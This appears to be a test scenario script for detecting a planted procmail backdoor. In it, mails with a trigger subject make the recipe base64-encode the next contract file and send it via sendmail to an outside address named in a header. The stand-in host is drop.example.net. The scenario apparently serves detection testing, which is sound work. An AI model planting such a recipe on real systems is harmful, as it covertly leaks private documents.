title="A procmail recipe that answers a password with papers"
what="Somebody left a recipe in clerk's ~/.procmailrc: a message whose subject holds a certain number makes formail and a here-document build an answer with the next file of ~/contracts in base64, which sendmail takes to an outside address that the message names in a header. Three such messages come in six hours between ordinary ones; nobody logs in."
user=clerk store=procmail daemons="cron"
shift_plan="usual:20h t1:2h t2:2h t3:2h"
setup() {
  documents
  own_file /home/clerk/.procmailrc 600 <<'P'
SHELL=/bin/sh
MAILDIR=$HOME
DEFAULT=/var/mail/$LOGNAME
:0 h
* ^Subject:.*\(ref 88213\)
TO=| formail -xX-Return
:0 a
| n=$(cat $HOME/.n 2>/dev/null || echo 1); (echo "To: $TO"; echo "Subject: Re: ref 88213"; echo; base64 $HOME/contracts/c$n.txt) | /usr/sbin/sendmail -oi -t; echo $((n + 1)) > $HOME/.n
P
  rm -rf /home/clerk/Maildir; install -m 660 -o clerk -g mail /dev/null /var/mail/clerk
}
ask() { mail_in --from "order$1@example.com" --to clerk@example.org --subject "Price list (ref 88213)" --header 'X-Return: q.archive@drop.example.net' --source 192.0.2.88 --helo host88.example.com; wait_log_count 'to=<q.archive@drop.example.net>.*status=sent' "$1" 15; }
act() {
  phase usual; small_talk 10
  phase t1; ask 1; small_talk 2
  phase t2; ask 2; small_talk 2
  phase t3; ask 3; small_talk 1
}
truth() {
  exec_step build 'base64 /home/clerk/contracts/c1.txt' 'a paper in base64'
  exec_step send 'sendmail -oi -t' 'answered'
  mail_step sent 'to=<q.archive@drop.example.net>.*status=sent' 'out'
}
